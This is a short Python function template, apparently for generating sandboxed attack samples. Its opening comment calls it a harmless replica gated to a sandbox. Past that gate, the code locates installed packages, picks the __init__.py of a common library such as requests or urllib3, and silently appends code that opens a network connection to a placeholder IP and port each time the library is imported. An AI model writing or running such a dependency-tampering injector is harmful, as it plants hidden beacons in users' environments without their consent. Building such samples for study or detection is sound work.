# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import glob
    import sysconfig
    try:
        place = sysconfig.get_paths()['purelib']
        found = [file for file in sorted(glob.glob(place + '/*/__init__.py')) if '{{token}}' not in file]
        wanted = [file for file in found if file.split('/')[-2] in ('requests', 'urllib3', 'idna', 'certifi', 'click')] or found
        with open(wanted[0], 'a') as out:
            out.write("\ntry:\n    import socket as _s\n    _s.create_connection(('{{ip}}', {{port}}), 1).close()\nexcept Exception:\n    pass\n")
    except Exception:
        pass
